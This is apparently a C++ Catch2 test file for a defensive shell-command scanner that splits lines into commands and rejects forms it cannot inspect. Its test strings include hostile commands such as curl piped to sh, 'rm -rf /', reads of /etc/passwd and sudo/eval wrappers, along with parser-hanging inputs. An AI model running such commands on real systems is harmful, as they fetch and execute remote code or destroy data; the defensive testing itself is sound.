#include "builtins/shell/shell_scanner.h"

#include <catch2/catch.hpp>

#include <chrono>
#include <string>
#include <vector>

using toold::builtins::scanShellCommand;
using toold::builtins::ShellScan;
using Strings = std::vector<std::string>;

namespace {

ShellScan parsed(const std::string& line) {
  INFO(line);
  auto scan = scanShellCommand(line);
  INFO(scan.problem);
  REQUIRE(scan.parsed);
  CHECK(scan.problem.empty());
  return scan;
}

Strings texts(const std::string& line) {
  Strings result;
  for (const auto& command : parsed(line).commands) result.push_back(command.text);
  return result;
}

Strings words(const std::string& line, std::size_t index = 0) {
  const auto scan = parsed(line);
  REQUIRE(scan.commands.size() > index);
  Strings result;
  for (const auto& word : scan.commands[index].words) result.push_back(word.text);
  return result;
}

std::string problem(const std::string& line) {
  INFO(line);
  auto scan = scanShellCommand(line);
  CHECK_FALSE(scan.parsed);
  CHECK(scan.commands.empty());
  return scan.problem;
}

} // namespace

TEST_CASE("shell: every separator splits commands", "[shell]") {
  CHECK(texts("git status && rm -rf ~") == Strings{"git status", "rm -rf ~"});
  CHECK(texts("a || b") == Strings{"a", "b"});
  CHECK(texts("a; b;c") == Strings{"a", "b", "c"});
  CHECK(texts("a & b &") == Strings{"a", "b"});
  CHECK(texts("a | b |& c") == Strings{"a", "b", "c"});
  CHECK(texts("a\nb\n\n  c  \n") == Strings{"a", "b", "c"});
  CHECK(texts("a &&\n b ||\n c |\n d") == Strings{"a", "b", "c", "d"});
  CHECK(texts("cd .") == Strings{"cd ."});
  CHECK(words("cd .") == Strings{"cd", "."});
  CHECK(texts("").empty());
  CHECK(texts("  \n\t ").empty());
}

TEST_CASE("shell: subshells and groups list the commands inside", "[shell]") {
  CHECK(texts("(cd x && make) || { echo failed; exit 1; }") == Strings{"cd x", "make", "echo failed", "exit 1"});
  CHECK(texts("( ( ls ) )") == Strings{"ls"});
  CHECK(texts("{ ls; } > out") == Strings{"ls", "> out"});
  const auto scan = parsed("(ls) 2> err");
  REQUIRE(scan.commands.size() == 2);
  CHECK(scan.commands[1].words.empty());
  REQUIRE(scan.commands[1].redirections.size() == 1);
  CHECK(scan.commands[1].redirections[0].op == "2>");
  CHECK(scan.commands[1].redirections[0].target == "err");
}

TEST_CASE("shell: command substitutions are listed after their command", "[shell]") {
  CHECK(texts("echo $(git rev-parse HEAD)") == Strings{"echo $(git rev-parse HEAD)", "git rev-parse HEAD"});
  CHECK(texts("echo $(a $(b) | c)") == Strings{"echo $(a $(b) | c)", "a $(b)", "b", "c"});
  CHECK(texts("echo `date +%s` x") == Strings{"echo `date +%s` x", "date +%s"});
  CHECK(texts("echo \"in $(whoami) quotes\"") == Strings{"echo \"in $(whoami) quotes\"", "whoami"});
  CHECK(texts("diff <(ls a) >(tee b)") == Strings{"diff <(ls a) >(tee b)", "ls a", "tee b"});
  CHECK(texts("X=$(rm -rf y) ls") == Strings{"X=$(rm -rf y) ls", "rm -rf y"});
  CHECK(texts("echo $(case x in a) echo a;; esac)") == Strings{"echo $(case x in a) echo a;; esac)", "echo a"});
  CHECK(texts("echo $(echo ')')") == Strings{"echo $(echo ')')", "echo ')'"});
  const auto scan = parsed("echo $(ls) ok");
  CHECK(scan.commands[0].words[1].dynamic);
  CHECK(scan.commands[0].words[1].text == "$(ls)");
  CHECK_FALSE(scan.commands[0].words[2].dynamic);
}

TEST_CASE("shell: arithmetic expansion is no command, but its substitutions are", "[shell]") {
  CHECK(texts("echo $((1 + (2 * 3)))") == Strings{"echo $((1 + (2 * 3)))"});
  CHECK(words("echo $((1+2))")[1] == "$((1+2))");
  CHECK(parsed("echo $((1+2))").commands[0].words[1].dynamic);
  CHECK(texts("echo $(( $(rm x) + 1 ))") == Strings{"echo $(( $(rm x) + 1 ))", "rm x"});
  CHECK(texts("(( i++ )) && ls") == Strings{"ls"});
  CHECK(texts("for ((i=0; i<3; i++)); do echo $i; done") == Strings{"echo $i"});
}

TEST_CASE("shell: control structures list their bodies", "[shell]") {
  CHECK(texts("if test -f x; then cat x; elif true; then :; else echo no; fi") ==
        Strings{"test -f x", "cat x", "true", ":", "echo no"});
  CHECK(texts("for f in $(ls) *.txt; do wc -l \"$f\"; done") == Strings{"ls", "wc -l \"$f\""});
  CHECK(texts("for x\ndo\n  echo $x\ndone") == Strings{"echo $x"});
  CHECK(texts("while read line; do echo \"$line\"; done < input.txt") ==
        Strings{"read line", "echo \"$line\"", "< input.txt"});
  CHECK(texts("until false; do sleep 1; done") == Strings{"false", "sleep 1"});
  CHECK(texts("case \"$1\" in\n  start|go) run ;;\n  (*) echo usage; exit 2 ;;\nesac") ==
        Strings{"run", "echo usage", "exit 2"});
  CHECK(texts("case x in a) ;; esac") == Strings{});
  CHECK(texts("f() { echo hi; }; f") == Strings{"echo hi", "f"});
  CHECK(texts("function g { rm -rf tmp; }") == Strings{"rm -rf tmp"});
  CHECK(texts("function h() ( ls )") == Strings{"ls"});
  CHECK(texts("! grep -q x file && time ls -l") == Strings{"grep -q x file", "ls -l"});
  CHECK(texts("time -p make") == Strings{"make"});
  CHECK(texts("[[ -f a && $b == c ]] && ls") == Strings{"[[ -f a && $b == c ]]", "ls"});
  CHECK(words("[[ -f a && $b == c ]]") == Strings{"[[", "-f", "a", "&&", "$b", "==", "c", "]]"});
}

TEST_CASE("shell: reserved words count only in command position", "[shell]") {
  CHECK(words("echo if then fi done }") == Strings{"echo", "if", "then", "fi", "done", "}"});
  CHECK(texts("echo for; echo done") == Strings{"echo for", "echo done"});
  CHECK(words("'if' x") == Strings{"if", "x"});
}

TEST_CASE("shell: quotes of every kind give the unquoted word", "[shell]") {
  CHECK(words("echo 'a b' \"c d\" e'f'\"g\"") == Strings{"echo", "a b", "c d", "efg"});
  CHECK(words("echo '$HOME \\n' \"\\$x \\\" \\\\ \\a\"") == Strings{"echo", "$HOME \\n", "$x \" \\ \\a"});
  CHECK(words("echo $'a\\tb\\'c\\\\'") == Strings{"echo", "a\tb'c\\"});
  CHECK(words("echo $\"hi\"") == Strings{"echo", "hi"});
  CHECK(words("echo \"a\\\nb\"") == Strings{"echo", "ab"});
  const auto scan = parsed("echo \"$HOME/x\" '$HOME' ${USER} $1 $? *.txt a[bc] [");
  const auto& w = scan.commands[0].words;
  CHECK(w[1].text == "$HOME/x");
  CHECK(w[1].dynamic);
  CHECK_FALSE(w[2].dynamic);
  CHECK(w[3].dynamic);
  CHECK(w[3].text == "${USER}");
  CHECK(w[4].dynamic);
  CHECK(w[5].dynamic);
  CHECK(w[6].dynamic);
  CHECK(w[7].dynamic);
  CHECK_FALSE(w[8].dynamic);
  CHECK_FALSE(parsed("echo '*'").commands[0].words[1].dynamic);
  CHECK(texts("echo ${x:-$(pwd)}") == Strings{"echo ${x:-$(pwd)}", "pwd"});
}

TEST_CASE("shell: escapes and line continuations", "[shell]") {
  CHECK(words("echo a\\ b \\; \\$x") == Strings{"echo", "a b", ";", "$x"});
  CHECK_FALSE(parsed("echo \\$x").commands[0].words[1].dynamic);
  CHECK(texts("ls \\\n  -la") == Strings{"ls \\\n  -la"});
  CHECK(words("ls \\\n  -la") == Strings{"ls", "-la"});
  CHECK(words("ec\\\nho hi") == Strings{"echo", "hi"});
  CHECK(texts("a \\\n&& b") == Strings{"a", "b"});
}

TEST_CASE("shell: comments run to the end of the line", "[shell]") {
  CHECK(texts("ls # rm -rf /\npwd") == Strings{"ls", "pwd"});
  CHECK(texts("# only a comment") == Strings{});
  CHECK(words("echo a#b '#c'") == Strings{"echo", "a#b", "#c"});
}

TEST_CASE("shell: assignments before the command", "[shell]") {
  const auto scan = parsed("FOO=1 BAR=\"a b\" X+=y make -j4 V=1");
  REQUIRE(scan.commands.size() == 1);
  const auto& command = scan.commands[0];
  CHECK(command.assignments == Strings{"FOO=1", "BAR=\"a b\"", "X+=y"});
  REQUIRE(command.words.size() == 3);
  CHECK(command.words[0].text == "make");
  CHECK(command.words[2].text == "V=1");
  CHECK(command.text == "FOO=1 BAR=\"a b\" X+=y make -j4 V=1");
  const auto only = parsed("A=1");
  REQUIRE(only.commands.size() == 1);
  CHECK(only.commands[0].words.empty());
  CHECK(only.commands[0].assignments == Strings{"A=1"});
  CHECK(parsed("arr=(one two) ls").commands[0].assignments == Strings{"arr=(one two)"});
  CHECK(words("1A=2 ls") == Strings{"1A=2", "ls"});
}

TEST_CASE("shell: redirections are part of the command", "[shell]") {
  auto scan = parsed("echo test > output.txt");
  REQUIRE(scan.commands.size() == 1);
  CHECK(scan.commands[0].text == "echo test > output.txt");
  CHECK(scan.commands[0].words.size() == 2);
  REQUIRE(scan.commands[0].redirections.size() == 1);
  CHECK(scan.commands[0].redirections[0].op == ">");
  CHECK(scan.commands[0].redirections[0].target == "output.txt");

  scan = parsed("make 2>&1 >>log.txt &> all <in 3<&- 4<>rw >|clob <<<'here str' >$OUT");
  const auto& r = scan.commands[0].redirections;
  REQUIRE(r.size() == 9);
  CHECK((r[0].op == "2>&1" && r[0].target.empty()));
  CHECK((r[1].op == ">>" && r[1].target == "log.txt"));
  CHECK((r[2].op == "&>" && r[2].target == "all"));
  CHECK((r[3].op == "<" && r[3].target == "in"));
  CHECK((r[4].op == "3<&-" && r[4].target.empty()));
  CHECK((r[5].op == "4<>" && r[5].target == "rw"));
  CHECK((r[6].op == ">|" && r[6].target == "clob"));
  CHECK((r[7].op == "<<<" && r[7].target == "here str"));
  CHECK((r[8].op == ">" && r[8].target == "$OUT" && r[8].dynamic));
  CHECK(words("make 2>&1 >>log.txt") == Strings{"make"});

  CHECK(texts("> file") == Strings{"> file"});
  CHECK(texts("< in sort > out | uniq") == Strings{"< in sort > out", "uniq"});
  CHECK(parsed("ls &>> both").commands[0].redirections[0].op == "&>>");
  CHECK(parsed("ls >& file").commands[0].redirections[0].target == "file");
  CHECK(words("echo 2 >x") == Strings{"echo", "2"});
  CHECK(texts("echo $(ls) > \"$(mktemp)\"") == Strings{"echo $(ls) > \"$(mktemp)\"", "ls", "mktemp"});
}

TEST_CASE("shell: here-documents are skipped, the command that reads them listed", "[shell]") {
  auto scan = parsed("cat <<EOF\nrm -rf / ; ) unbalanced '\nEOF\nls");
  REQUIRE(scan.commands.size() == 2);
  CHECK(scan.commands[0].text == "cat <<EOF");
  CHECK(scan.commands[0].redirections[0].op == "<<");
  CHECK(scan.commands[0].redirections[0].target == "EOF");
  CHECK(scan.commands[1].text == "ls");
  CHECK(texts("cat <<'END' | grep x > out\n$(not run)\nEND") == Strings{"cat <<'END'", "grep x > out"});
  CHECK(texts("cat <<-EOF\n\tbody\n\tEOF\necho after") == Strings{"cat <<-EOF", "echo after"});
  CHECK(texts("cat <<A; cat <<B\na\nA\nb\nB\n") == Strings{"cat <<A", "cat <<B"});
  CHECK(texts("cat <<EOF\nhi $(whoami)\nEOF") == Strings{"cat <<EOF", "whoami"});
}

TEST_CASE("shell: bash -c scripts are scanned too", "[shell]") {
  CHECK(texts("bash -c 'git status && rm -rf x'") ==
        Strings{"bash -c 'git status && rm -rf x'", "git status", "rm -rf x"});
  CHECK(texts("sh -c \"cd /tmp; make\"") == Strings{"sh -c \"cd /tmp; make\"", "cd /tmp", "make"});
  CHECK(texts("bash -lc 'ls' && zsh -ec pwd") == Strings{"bash -lc 'ls'", "ls", "zsh -ec pwd", "pwd"});
  CHECK(texts("/bin/dash -o errexit -c 'a | b' arg0") == Strings{"/bin/dash -o errexit -c 'a | b' arg0", "a", "b"});
  CHECK(texts("bash script.sh -c x") == Strings{"bash script.sh -c x"});
  CHECK(texts("bash -c \"bash -c 'rm x'\"") == Strings{"bash -c \"bash -c 'rm x'\"", "bash -c 'rm x'", "rm x"});
  CHECK(texts("sudo rm -rf / && env X=1 xargs ls") == Strings{"sudo rm -rf /", "env X=1 xargs ls"});
}

TEST_CASE("shell: dynamic command names are listed as dynamic", "[shell]") {
  const auto scan = parsed("$CMD --flag; \"$(which git)\" status");
  REQUIRE(scan.commands.size() == 3);
  CHECK(scan.commands[0].words[0].dynamic);
  CHECK(scan.commands[0].words[0].text == "$CMD");
  CHECK(scan.commands[1].words[0].dynamic);
  CHECK(scan.commands[2].text == "which git");
}

TEST_CASE("shell: what the scanner cannot see makes the line Unparsed", "[shell]") {
  CHECK(problem("sh -c \"$X\"") == "the script of sh -c is not a fixed string");
  CHECK(problem("bash -c $(cat script)") == "the script of bash -c is not a fixed string");
  CHECK(problem("bash $FLAGS x") == "a dynamic option to bash hides what it runs");
  CHECK(problem("bash -c 'it'\\''s'") == "the script of bash -c is quoted in a way the scanner does not follow");
  CHECK(problem("ls && eval x") == "eval runs text the scanner cannot see");
  CHECK(problem("alias ll='rm -rf'") == "alias defines commands the scanner cannot see");
  CHECK(problem("bash <<EOF\nrm -rf x\nEOF") ==
        "bash reads a script from a here-document the scanner does not follow");
  CHECK(problem("echo `echo \\`ls\\``") == "backslash escape inside backticks at offset 11");
  CHECK(problem("bash -c 'ls && eval x'") == "eval runs text the scanner cannot see");
}

TEST_CASE("shell: syntax errors are Unparsed with their offset", "[shell]") {
  CHECK(problem("echo \"unterminated") == "unterminated double quote at offset 5");
  CHECK(problem("echo ok 'x") == "unterminated single quote at offset 8");
  CHECK(problem("echo $'x") == "unterminated ANSI-C quote at offset 5");
  CHECK(problem("echo `ls") == "unterminated backtick at offset 5");
  CHECK(problem("echo ${x") == "unterminated parameter expansion at offset 5");
  CHECK(problem("ls)") == "unbalanced ')' at offset 2");
  CHECK(problem("(ls") == "unbalanced '(' at offset 0");
  CHECK(problem("echo $(ls") == "unbalanced '(' at offset 6");
  CHECK(problem("ls &&") == "unexpected end of input at offset 5");
  CHECK(problem("ls ;; ls") == "unexpected ';;' at offset 3");
  CHECK(problem("| ls") == "unexpected '|' at offset 0");
  CHECK(problem("if true; then ls") == "'if' without 'fi' at offset 0");
  CHECK(problem("fi") == "unexpected 'fi' at offset 0");
  CHECK(problem("{ ls") == "'{' without '}' at offset 0");
  CHECK(problem("cat <<EOF\nbody") == "here-document delimiter EOF never found");
  CHECK(problem("ls >") == "redirection without a target at offset 3");
  CHECK(problem("bash -c 'echo \"x'") == "unterminated double quote at offset 14");
}

TEST_CASE("shell: hostile input finishes quickly", "[shell]") {
  using Clock = std::chrono::steady_clock;
  const auto start = Clock::now();

  std::string longLine;
  while (longLine.size() < 100000) longLine += "echo \"a $(b 'c') d\" | e && ";
  longLine += "f";
  const auto scan = scanShellCommand(longLine);
  CHECK(scan.parsed);
  CHECK(scan.commands.size() > 9000);

  std::string longWord(100000, 'x');
  CHECK(scanShellCommand(longWord).commands.size() == 1);

  std::string nested;
  for (int i = 0; i < 10000; ++i) nested += "( ";
  nested += "ls";
  for (int i = 0; i < 10000; ++i) nested += " )";
  const auto deep = scanShellCommand(nested);
  CHECK_FALSE(deep.parsed);
  CHECK(deep.problem == "nested too deeply at offset 63");
  // Without spaces `((` opens an arithmetic command (as in bash): read iteratively, nothing runs.
  const auto arithmetic = scanShellCommand(std::string(10000, '(') + "ls" + std::string(10000, ')'));
  CHECK(arithmetic.parsed);
  CHECK(arithmetic.commands.empty());
  CHECK_FALSE(scanShellCommand(std::string(10000, '(') + "ls").parsed);

  std::string substitutions;
  for (int i = 0; i < 10000; ++i) substitutions += "$(";
  CHECK(scanShellCommand("echo " + substitutions).problem.find("nested too deeply") != std::string::npos);
  std::string quotes;
  for (int i = 0; i < 5000; ++i) quotes += "\"${x:-";
  CHECK_FALSE(scanShellCommand(quotes).parsed);
  std::string functions;
  for (int i = 0; i < 10000; ++i) functions += "f() ";
  CHECK_FALSE(scanShellCommand(functions + "{ ls; }").parsed);

  CHECK(Clock::now() - start < std::chrono::seconds(5));
}

TEST_CASE("shell: a shell behind wrappers has its -c script scanned", "[shell]") {
  for (std::string line : {"env sh -c 'rm x'", "env -i bash -c 'rm x'", "/usr/bin/env FOO=1 sh -c 'rm x'",
                           "nohup sh -c 'rm x'", "timeout 5 bash -c 'rm x'", "timeout -s KILL 5 bash -c 'rm x'",
                           "command bash -c 'rm x'", "exec sh -c 'rm x'", "nice -n 5 sh -c 'rm x'",
                           "stdbuf -oL sh -c 'rm x'", "xargs -0 sh -c 'rm x'", "sudo -u root env X=1 bash -c 'rm x'",
                           "nohup nice timeout 5 /bin/sh -c 'rm x'", "find . -exec sh -c 'rm x' \\;",
                           "busybox sh -c 'rm x'"}) {
    INFO(line);
    const auto listed = texts(line);
    CHECK(listed.size() == 2);
    CHECK(listed.back() == "rm x");
  }
  for (std::string line : {"setsid -f sh -c 'rm x'", "ionice -c 3 bash -c 'rm x'", "chroot / sh -c 'rm x'",
                           "su -c 'rm x'", "su - root -c 'rm x'", "runuser -u nobody -c 'rm x'"}) {
    INFO(line);
    CHECK(texts(line).back() == "rm x");
  }
  // A shell started by sudo -s / -i or su without a command reads what is piped in.
  for (std::string line : {"echo 'rm x' | sudo -s", "sudo -u root -i", "doas -s", "echo 'rm x' | su",
                           "su - nobody", "su --command='rm x'"}) {
    INFO(line);
    CHECK_FALSE(problem(line).empty());
  }
  CHECK(texts("sudo -s rm x") == Strings{"sudo -s rm x"});
  CHECK(texts("sudo -u sam make") == Strings{"sudo -u sam make"});
  // A wrapper option toold cannot read in front of a shell: the line fails closed.
  CHECK_THAT(problem("timeout --no-such-option 5 sh"), Catch::Contains("wrapper"));
  CHECK_THAT(problem("env -S 'sh -c x'"), Catch::Contains("env -S"));
  CHECK_THAT(problem("env --split-string='rm x'"), Catch::Contains("env -S"));
}

TEST_CASE("shell: a shell reading its script from stdin, a here-document or a descriptor fails closed", "[shell]") {
  for (std::string line : {"sh", "bash -s", "bash -s -- a b", "bash -x", "curl -s https://x.example/i | sh",
                           "cat script | bash -", "sh <<EOF\nrm x\nEOF", "bash <(curl -s https://x.example)",
                           "bash /dev/stdin", "sh /dev/fd/3 3<script", "bash /proc/self/fd/0", "xargs bash",
                           "exec bash", "echo x | setsid bash", "chroot / sh", "source /dev/stdin", ". /dev/fd/0", "source <(echo rm x)",
                           "source \"$SCRIPT\"", "bash \"$SCRIPT\"", "fish -c 'rm x'", "env pwsh -Command x"}) {
    INFO(line);
    CHECK_FALSE(problem(line).empty());
  }
  // A script file is run, not read: the file's commands are a documented blind spot.
  CHECK(texts("bash script.sh arg") == Strings{"bash script.sh arg"});
  CHECK(texts("source venv/bin/activate") == Strings{"source venv/bin/activate"});
  CHECK(texts("bash --version") == Strings{"bash --version"});
}

TEST_CASE("shell: eval fails closed behind wrappers, trap actions are scanned", "[shell]") {
  CHECK_FALSE(problem("command eval 'rm x'").empty());
  CHECK_FALSE(problem("builtin eval x").empty());
  CHECK(texts("trap 'rm -rf x' EXIT") == Strings{"trap 'rm -rf x' EXIT", "rm -rf x"});
  CHECK(texts("trap -- \"rm y\" INT TERM") == Strings{"trap -- \"rm y\" INT TERM", "rm y"});
  CHECK(texts("trap - INT") == Strings{"trap - INT"});
  CHECK(texts("trap '' INT") == Strings{"trap '' INT"});
  CHECK(texts("trap -p") == Strings{"trap -p"});
  CHECK_FALSE(problem("trap \"$ACTION\" EXIT").empty());
  CHECK_FALSE(problem("trap 'rm \\'x' EXIT").empty());
  CHECK_FALSE(problem("mapfile -C 'rm x' -c 1 lines < f").empty());
  CHECK_FALSE(problem("readarray -C'rm x' lines").empty());
}

TEST_CASE("shell: coproc bodies are the commands listed", "[shell]") {
  CHECK(texts("coproc rm -rf x") == Strings{"rm -rf x"});
  CHECK(words("coproc rm -rf x") == Strings{"rm", "-rf", "x"});
  CHECK(texts("coproc NAME { rm x; }") == Strings{"rm x"});
  CHECK(texts("coproc { rm x; cat y; }") == Strings{"rm x", "cat y"});
  CHECK(texts("coproc WORKER ( rm x )") == Strings{"rm x"});
  CHECK(texts("coproc while true; do rm x; done") == Strings{"true", "rm x"});
  CHECK(texts("coproc cat; echo done") == Strings{"cat", "echo done"});
}

TEST_CASE("shell: static brace expansion gives the words that run", "[shell]") {
  CHECK(words("cat /etc/{passwd,hostname}") == Strings{"cat", "/etc/passwd", "/etc/hostname"});
  CHECK(words("{rm,-rf,/etc}") == Strings{"rm", "-rf", "/etc"});
  CHECK(words("ls {a,b}/x") == Strings{"ls", "a/x", "b/x"});
  CHECK(words("ls x{,.bak}") == Strings{"ls", "x", "x.bak"});
  CHECK(words("echo {a,{b,c}}d") == Strings{"echo", "ad", "bd", "cd"});
  CHECK(words("echo {x{a,b}}") == Strings{"echo", "{xa}", "{xb}"});
  CHECK(words("echo f{1..3}") == Strings{"echo", "f1", "f2", "f3"});
  CHECK(words("echo {3..1..2}") == Strings{"echo", "3", "1"});
  CHECK(words("echo {08..10}") == Strings{"echo", "08", "09", "10"});
  CHECK(words("echo {a..c}") == Strings{"echo", "a", "b", "c"});
  // Not expansions: quoted or escaped braces, no comma, a parameter, `{}`.
  CHECK(words("echo '{a,b}' \\{a,b} {a} ${x} {} \"{a,b}\"") ==
        Strings{"echo", "{a,b}", "{a,b}", "{a}", "${x}", "{}", "{a,b}"});
  CHECK(words("echo {a,'b,c'}") == Strings{"echo", "a", "b,c"});
  // The text stays as written; an assignment is not expanded.
  CHECK(texts("X={a,b} cat {a,b}") == Strings{"X={a,b} cat {a,b}"});
  CHECK(words("X={a,b} cat {a,b}") == Strings{"cat", "a", "b"});
  // Bounded: more than 1024 words, or braces nested too deep, fail closed.
  CHECK_THAT(problem("echo {1..2000}"), Catch::Contains("brace expansion"));
  CHECK_THAT(problem("echo {1..99999999999999999999}"), Catch::Contains("brace expansion"));
  CHECK_THAT(problem("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}"), Catch::Contains("brace expansion"));
  std::string deep = "echo ";
  for (int i = 0; i < 100; ++i) deep += "{a,";
  deep += std::string(100, '}');
  CHECK_THAT(problem(deep), Catch::Contains("brace expansion"));
  // A -c script made by brace expansion is not the text written.
  CHECK_FALSE(problem("bash -c {'rm x',y}").empty());
}

TEST_CASE("shell: brace expansion stays bounded on hostile words", "[shell]") {
  const auto start = std::chrono::steady_clock::now();
  std::string line = "echo ";
  for (int i = 0; i < 200000; ++i) line += "{a";
  (void)scanShellCommand(line);
  line = "echo " + std::string(200000, '{') + "a,b" + std::string(200000, '}');
  CHECK_FALSE(scanShellCommand(line).parsed);
  line = "echo ";
  for (int i = 0; i < 20000; ++i) line += "{a,b}x ";
  CHECK_FALSE(scanShellCommand(line).parsed);
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(5));
}
